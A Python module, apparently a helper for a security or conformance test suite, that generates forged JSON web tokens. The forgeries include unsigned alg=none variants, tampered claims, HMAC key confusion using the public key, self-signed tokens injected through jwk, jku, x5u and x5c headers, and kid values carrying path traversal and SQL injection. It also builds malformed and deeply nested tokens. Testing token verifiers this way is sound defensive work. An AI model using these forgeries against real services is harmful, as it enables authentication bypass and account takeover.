"""What somebody makes of a token that is not theirs to make."""

import base64
import json
import random
from collections.abc import Iterator, Mapping
from functools import cache
from typing import TYPE_CHECKING, Any

if TYPE_CHECKING:
    from cryptography.hazmat.primitives.asymmetric.rsa import RSAPrivateKey

NOBODY_SIGNED = ("none", "None", "NONE", "")
SYMMETRIC = {"HS256": "sha256", "HS384": "sha384", "HS512": "sha512"}
WIDE = '{"alg":"RS\uff12\uff15\uff16"}'.encode()
"""The right name in digits of another script."""
DEEP = 2000
"""Levels: more than readers of JSON go down by themselves, in less than servers allow of a header."""
NAMES_OF_NO_KEY = ("unknown", "../../../../dev/null", "' OR '1'='1", "")


def altered(link: str, chance: random.Random) -> str:
    """The link or token with one letter of its end changed: of the signature, where there is one.

    Not the very last letter, of which some bits may mean nothing.
    """
    place = len(link) - 2 - chance.randrange(8)
    other = "A" if link[place] != "A" else "B"
    return link[:place] + other + link[place + 1 :]


def unsigned(token: str) -> str | None:
    """A JSON web token that says of itself that nobody has signed it; None where it is no such token."""
    return next(iter(all_unsigned(token)), None) if taken_apart(token) else None


def taken_apart(token: str) -> tuple[dict[str, Any], dict[str, Any], str] | None:
    """Header, claims and signature of a JSON web token; None for anything else."""
    try:
        first, second, signature = token.split(".")
        header, claims = (json.loads(base64.urlsafe_b64decode(one + "=" * (-len(one) % 4))) for one in (first, second))
    except ValueError:
        return None
    return (header, claims, signature) if isinstance(header, dict) and isinstance(claims, dict) else None


def all_unsigned(token: str) -> Iterator[str]:
    """Every spelling of an algorithm that is none, without a signature; the first also with the one that it had."""
    for algorithm in NOBODY_SIGNED:
        _, second, signature = token.split(".")
        first = _segment({"alg": algorithm, "typ": "JWT"})
        yield f"{first}.{second}."
        if algorithm == NOBODY_SIGNED[0]:
            yield f"{first}.{second}.{signature}"


def tampered(token: str, old: Mapping[str, Any]) -> Iterator[str]:
    """The token with other claims under its own signature: each value of ``old`` replaced, then each alone."""
    found = taken_apart(token)
    if found is None:
        return
    first, _, signature = token.split(".")
    for changes in (dict(old), *({name: value} for name, value in old.items())):
        if changes:
            yield f"{first}.{_segment(found[1] | changes)}.{signature}"


def symmetric(token: str, published: Mapping[str, Any]) -> Iterator[str]:
    """The token signed with a shared secret that everybody knows: what is published of the key, in every form."""
    import hmac

    found = taken_apart(token)
    if found is None:
        return
    header, claims, _ = found
    for algorithm, digest in SYMMETRIC.items():
        message = f"{_segment({**header, 'alg': algorithm})}.{_segment(claims)}"
        for secret in _public_forms(published):
            yield f"{message}.{_text(hmac.digest(secret, message.encode(), digest))}"


def by_another_key(token: str, at: str) -> Iterator[str]:
    """The token signed by a key of our own, which the header brings along, points to at this address, or misnames."""
    found = taken_apart(token)
    if found is None:
        return
    header, claims, _ = found
    bare = {name: value for name, value in header.items() if name != "kid"} | {"alg": "RS256"}
    kid = {"kid": header["kid"]} if "kid" in header else {}
    yield _signed(bare | kid | {"jwk": own_jwk()}, claims)
    yield _signed(bare | {"kid": own_jwk()["kid"], "jwk": own_jwk()}, claims)
    yield _signed(bare | {"kid": own_jwk()["kid"], "jku": at}, claims)
    yield _signed(bare | {"kid": own_jwk()["kid"], "x5u": at}, claims)
    yield _signed(bare | kid | {"x5c": [base64.b64encode(_own_certificate()).decode()]}, claims)
    yield from (_signed(bare | {"kid": name}, claims) for name in NAMES_OF_NO_KEY)
    yield _signed(bare | kid, claims)


def made_up(claims: Mapping[str, Any]) -> Iterator[str]:
    """Tokens with these claims that no server has issued: as plain text, unsigned, and signed by a key of our own."""
    yield "made-up-by-a-stranger-" + "x" * 24
    yield f"{_segment({'alg': 'none', 'typ': 'JWT'})}.{_segment(claims)}."
    yield _signed({"alg": "RS256", "typ": "JWT", "kid": own_jwk()["kid"]}, claims)


def malformed(token: str) -> Iterator[str]:
    """What no reader of tokens may stumble over: of other parts, too deep, doubled, of odd letters, half understood."""
    first, second, signature = token.split(".")
    header, claims = (base64.urlsafe_b64decode(one + "=" * (-len(one) % 4)) for one in (first, second))
    deep = b'{"id":' + b"[" * DEEP + b"]" * DEEP + b"}"
    yield from (".", "..", f"{first}.", f"{first}.{second}", f"{first}..{signature}", "!!!.@@@.~~~")
    yield f"{first}.{second}.{signature}.{first}.{second}"
    yield f"{first}.{_text(deep)}.{signature}"
    yield f"{_text(deep)}.{second}.{signature}"
    yield f"{first}.{_text(claims[:-1] + b',' + claims[1:])}.{signature}"
    yield f"{_text(header[:-1] + b',' + header[1:])}.{second}.{signature}"
    yield f"{first}.{_text(claims + bytes(8))}.{signature}"
    yield f"{_text(WIDE)}.{second}.{signature}"
    yield f"{_text(b'null')}.{_text(b'[]')}.{signature}"
    critical = {**json.loads(header), "crit": ["fapi-conformance"], "fapi-conformance": True}
    yield f"{_segment(critical)}.{second}.{signature}"
    yield _signed({**critical, "alg": "RS256"}, json.loads(claims))


@cache
def own_jwk() -> dict[str, str]:
    """The public half of the key that forged tokens are signed with."""
    numbers = _own_key().public_key().public_numbers()
    parts = {"n": numbers.n, "e": numbers.e}
    told = {name: _text(value.to_bytes((value.bit_length() + 7) // 8, "big")) for name, value in parts.items()}
    return {"kty": "RSA", "use": "sig", "alg": "RS256", "kid": "forger", **told}


@cache
def _own_key() -> "RSAPrivateKey":
    from cryptography.hazmat.primitives.asymmetric import rsa

    return rsa.generate_private_key(65537, 2048)


@cache
def _own_certificate() -> bytes:
    from datetime import UTC, datetime, timedelta

    from cryptography import x509
    from cryptography.hazmat.primitives.hashes import SHA256
    from cryptography.hazmat.primitives.serialization import Encoding
    from cryptography.x509.oid import NameOID

    name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "forger")])
    now = datetime.now(UTC)
    made = x509.CertificateBuilder().subject_name(name).issuer_name(name).public_key(_own_key().public_key())
    made = (
        made.serial_number(x509.random_serial_number()).not_valid_before(now).not_valid_after(now + timedelta(days=1))
    )
    return made.sign(_own_key(), SHA256()).public_bytes(Encoding.DER)


def _signed(header: Mapping[str, Any], claims: Mapping[str, Any]) -> str:
    from cryptography.hazmat.primitives.asymmetric.padding import PKCS1v15
    from cryptography.hazmat.primitives.hashes import SHA256

    message = f"{_segment(header)}.{_segment(claims)}"
    return f"{message}.{_text(_own_key().sign(message.encode(), PKCS1v15(), SHA256()))}"


def _public_forms(published: Mapping[str, Any]) -> Iterator[bytes]:
    """What somebody could take for the secret: PEM, DER, the published JSON, its modulus."""
    import jwt
    from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat

    key = jwt.PyJWK(dict(published)).key
    pem = key.public_bytes(Encoding.PEM, PublicFormat.SubjectPublicKeyInfo)
    yield pem
    yield pem.rstrip(b"\n")
    yield key.public_bytes(Encoding.DER, PublicFormat.SubjectPublicKeyInfo)
    yield json.dumps(dict(published)).encode()
    if isinstance(modulus := published.get("n"), str):
        yield modulus.encode()


def _segment(told: Mapping[str, Any]) -> str:
    return _text(json.dumps(told, separators=(",", ":")).encode())


def _text(raw: bytes) -> str:
    return base64.urlsafe_b64encode(raw).rstrip(b"=").decode()
